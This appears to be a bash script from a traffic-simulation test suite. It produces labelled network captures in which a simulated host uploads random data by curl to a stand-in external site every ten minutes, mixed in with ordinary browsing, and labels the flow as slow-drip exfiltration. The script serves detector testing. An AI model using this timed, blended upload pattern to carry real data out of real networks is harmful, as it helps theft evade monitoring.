#!/usr/bin/env bash
# A few hundred kilobytes every ten minutes over HTTPS, for nine hours, to one destination: 15 MB in all.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-16T08:00:00Z
uc_start 560 curl nginx-light
UC_OFFLOAD=1
uc_lan 192.168.90.1/24
uc_host hr3 192.168.90.23
uc_host hr4 192.168.90.24
uc_browse_sites
uc_site sync.notesparrow.example 198.51.100.240
uc_up

uc_plan <<'PY'
from plan import Plan
plan = Plan(seed=99)
end = 9 * 3600
def drip(number):
    return (f"head -c {plan.rng.randrange(180_000, 420_000)} /dev/urandom | curl -s -o /dev/null --cacert $UC_CA -T - "
            f"https://sync.notesparrow.example/up/{number:04d}")
plan.every("192.168.90.23", 200, end, 600, 0.15, drip)
for host in ("192.168.90.23", "192.168.90.24"):
    plan.browse(host, 0, end, ["mail", "docs", "news", "shop"], pause_s=60, break_s=1800)
plan.write()
PY
uc_drive --helper 192.168.90.23 browser "python3 $UC_TOOLS/browser.py" --helper 192.168.90.24 browser "python3 $UC_TOOLS/browser.py"
uc_finish "$(uc_versions curl nginx-light dnsmasq-base tcpdump)" <<'LABELS'
192.168.90.23 198.51.100.240:443 exfil slow_drip
LABELS
